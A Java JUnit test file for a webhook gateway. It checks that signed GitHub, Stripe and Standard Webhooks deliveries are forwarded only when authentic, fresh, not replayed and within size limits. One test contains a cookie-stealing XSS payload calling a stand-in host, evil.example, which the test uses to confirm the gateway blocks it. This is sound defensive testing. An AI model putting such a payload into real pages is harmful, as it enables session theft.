package io.portcullis.gateway.inbound;

import static org.assertj.core.api.Assertions.assertThat;

import io.portcullis.core.event.Direction;
import io.portcullis.gateway.testing.TestGateway;
import io.portcullis.gateway.testing.TestVendor;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.Base64;
import java.util.HexFormat;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Webhook routes through the real gateway: deliveries signed as GitHub, Stripe and Standard Webhooks sign them
 * (computed here with the vendors' documented algorithms) reach the internal service (a {@link TestVendor}) only
 * when authentic, fresh, not replayed and free of injection payloads; nothing is forwarded otherwise.
 */
class WebhookGatewayTest {
    static final String GITHUB_SECRET = "gh-webhook-secret-1";
    static final String STRIPE_SECRET = "whsec_test_stripe_abc123";
    static final byte[] SW_KEY = "0123456789abcdef0123456789abcdef".getBytes(StandardCharsets.US_ASCII);
    static final String SW_SECRET = "whsec_" + Base64.getEncoder().encodeToString(SW_KEY);

    @TempDir Path dir;
    TestVendor internal;
    TestGateway gw;
    String yaml;

    Path secretFile(String name, String value) throws Exception {
        Path f = dir.resolve(name);
        Files.writeString(f, value);
        Files.setPosixFilePermissions(f, PosixFilePermissions.fromString("rw-------"));
        return f;
    }

    @BeforeEach
    void start() throws Exception {
        internal = new TestVendor(null);
        String hooks = """
                webhooks:
                  - name: github-repo
                    vendor: acme
                    route: /hooks/github
                    kind: github
                    secrets: [file:%s]
                    forwardTo: http://127.0.0.1:%d/internal/github
                  - name: stripe-events
                    vendor: acme
                    route: /hooks/stripe
                    kind: stripe
                    secrets: ["file:%s"]
                    forwardTo: http://127.0.0.1:%d/internal/stripe
                    tolerance: 5m
                  - name: standard
                    vendor: acme
                    route: /hooks/std
                    kind: standard-webhooks
                    secrets: ["file:%s"]
                    forwardTo: http://127.0.0.1:%d/internal/std
                """.formatted(secretFile("gh", GITHUB_SECRET), internal.port(), secretFile("stripe", STRIPE_SECRET), internal.port(),
                secretFile("std", SW_SECRET), internal.port());
        yaml = TestGateway.oneLoopbackApi(internal.port(), "") + hooks;
        var cfg = TestGateway.load(dir, yaml);
        gw = new TestGateway(cfg);
    }

    @AfterEach
    void stop() {
        if (gw != null) gw.close();
        if (internal != null) internal.close();
    }

    static String hmacHex(String key, String data) throws Exception {
        return HexFormat.of().formatHex(hmac("HmacSHA256", key.getBytes(StandardCharsets.UTF_8), data.getBytes(StandardCharsets.UTF_8)));
    }

    static byte[] hmac(String alg, byte[] key, byte[] data) throws Exception {
        var mac = Mac.getInstance(alg);
        mac.init(new SecretKeySpec(key, alg));
        return mac.doFinal(data);
    }

    HttpResponse<String> post(String path, String body, String... headers) throws Exception {
        var b = HttpRequest.newBuilder(gw.uri(path)).timeout(Duration.ofSeconds(30)).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(body));
        for (int i = 0; i < headers.length; i += 2) b.header(headers[i], headers[i + 1]);
        return gw.http.send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    @Test
    void aValidGithubDeliveryIsForwardedWithoutAppIdentityAndAuditedInbound() throws Exception {
        String body = "{\"action\":\"opened\",\"issue\":{\"number\":7,\"title\":\"Crash on start\"}}";
        var r = post("/hooks/github", body, "X-Hub-Signature-256", "sha256=" + hmacHex(GITHUB_SECRET, body),
                "X-GitHub-Delivery", "d-1", "X-GitHub-Event", "issues");
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(internal.seen).singleElement().satisfies(s -> {
            assertThat(s.uri()).isEqualTo("/internal/github");
            assertThat(s.bodyBytes()).isEqualTo(body.getBytes(StandardCharsets.UTF_8).length);
        });
        var x = gw.awaitExchanges(1).getFirst().exchange();
        assertThat(x.app()).isNull();
        assertThat(x.vendor()).isEqualTo("acme");
        assertThat(x.attributes()).containsEntry("direction", Direction.INBOUND.name()).containsEntry("webhook.event", "d-1");
    }

    @Test
    void aBadSignatureIs401AndNothingIsForwarded() throws Exception {
        String body = "{\"action\":\"opened\"}";
        var r = post("/hooks/github", body, "X-Hub-Signature-256", "sha256=" + hmacHex("not-the-secret", body));
        assertThat(r.statusCode()).isEqualTo(401);
        assertThat(r.headers().firstValue("content-type")).hasValue("application/problem+json");
        assertThat(internal.requests.get()).isZero();
        var unsigned = post("/hooks/github", body);
        assertThat(unsigned.statusCode()).isEqualTo(401);
        assertThat(internal.requests.get()).isZero();
    }

    @Test
    void aReplayedDeliveryIs401AndForwardedOnlyOnce() throws Exception {
        String body = "{\"action\":\"closed\",\"issue\":{\"number\":8}}";
        String sig = "sha256=" + hmacHex(GITHUB_SECRET, body);
        assertThat(post("/hooks/github", body, "X-Hub-Signature-256", sig).statusCode()).isEqualTo(200);
        assertThat(post("/hooks/github", body, "X-Hub-Signature-256", sig).statusCode()).isEqualTo(401);
        assertThat(internal.requests.get()).isEqualTo(1);
    }

    @Test
    void aStripeDeliveryInsideItsWindowIsForwardedAndAStaleOneIsNot() throws Exception {
        String body = "{\"id\":\"evt_1\",\"type\":\"invoice.paid\",\"data\":{\"object\":{\"id\":\"in_1\",\"amount_paid\":1200}}}";
        long now = System.currentTimeMillis() / 1000;
        var ok = post("/hooks/stripe", body, "Stripe-Signature", "t=" + now + ",v1=" + hmacHex(STRIPE_SECRET, now + "." + body));
        assertThat(ok.statusCode()).isEqualTo(200);
        long old = now - 3600;
        String stale = body.replace("evt_1", "evt_2");
        var late = post("/hooks/stripe", stale, "Stripe-Signature", "t=" + old + ",v1=" + hmacHex(STRIPE_SECRET, old + "." + stale));
        assertThat(late.statusCode()).isEqualTo(401);
        assertThat(internal.requests.get()).isEqualTo(1);
    }

    @Test
    void aStandardWebhooksDeliveryIsForwarded() throws Exception {
        String body = "{\"type\":\"user.created\",\"data\":{\"id\":\"u_1\",\"name\":\"Zoë\"}}";
        String id = "msg_2KWPBgLlAfxdpx2AI54pPJ85f4W";
        long ts = System.currentTimeMillis() / 1000;
        String sig = "v1," + Base64.getEncoder().encodeToString(hmac("HmacSHA256", SW_KEY, (id + "." + ts + "." + body).getBytes(StandardCharsets.UTF_8)));
        var r = post("/hooks/std", body, "webhook-id", id, "webhook-timestamp", Long.toString(ts), "webhook-signature", sig);
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(internal.seen).singleElement().satisfies(s -> assertThat(s.uri()).isEqualTo("/internal/std"));
    }

    @Test
    void aSignedDeliveryCarryingAnInjectionPayloadIs400AndNotForwarded() throws Exception {
        String body = "{\"action\":\"opened\",\"issue\":{\"title\":\"<script>fetch('//evil.example/'+document.cookie)</script>\"}}";
        var r = post("/hooks/github", body, "X-Hub-Signature-256", "sha256=" + hmacHex(GITHUB_SECRET, body));
        assertThat(r.statusCode()).isEqualTo(400);
        assertThat(internal.requests.get()).isZero();
        assertThat(gw.awaitExchanges(1).getFirst().exchange().findings()).anySatisfy(f -> {
            assertThat(f.type()).isEqualTo("XSS");
            assertThat(f.path()).isEqualTo("body.$.issue.title");
        });
    }

    @Test
    void replayMemorySurvivesAConfigReload() throws Exception {
        String body = "{\"action\":\"labeled\",\"issue\":{\"number\":9}}";
        String sig = "sha256=" + hmacHex(GITHUB_SECRET, body);
        assertThat(post("/hooks/github", body, "X-Hub-Signature-256", sig).statusCode()).isEqualTo(200);
        gw.runtime.swap(gw.compiler.compile(TestGateway.load(dir, yaml))); // a reload with the same webhooks
        assertThat(post("/hooks/github", body, "X-Hub-Signature-256", sig).statusCode()).isEqualTo(401);
        assertThat(internal.requests.get()).isEqualTo(1);
    }

    @Test
    void aSignedDeliveryOverAStructuralLimitIs400AndNotForwarded() throws Exception {
        String body = "{\"a\":".repeat(70) + "1" + "}".repeat(70); // deeper than the default maxDepth of 64
        var r = post("/hooks/github", body, "X-Hub-Signature-256", "sha256=" + hmacHex(GITHUB_SECRET, body));
        assertThat(r.statusCode()).isEqualTo(400);
        assertThat(r.body()).contains("delivery-structure");
        assertThat(internal.requests.get()).isZero();
    }

    @Test
    void aDeliveryLargerThanMaxBodyIs413AndNotForwarded() throws Exception {
        String body = "{\"pad\":\"" + "x".repeat((1 << 20) + 10) + "\"}";
        var r = post("/hooks/github", body, "X-Hub-Signature-256", "sha256=" + hmacHex(GITHUB_SECRET, body));
        assertThat(r.statusCode()).isEqualTo(413);
        assertThat(internal.requests.get()).isZero();
    }
}
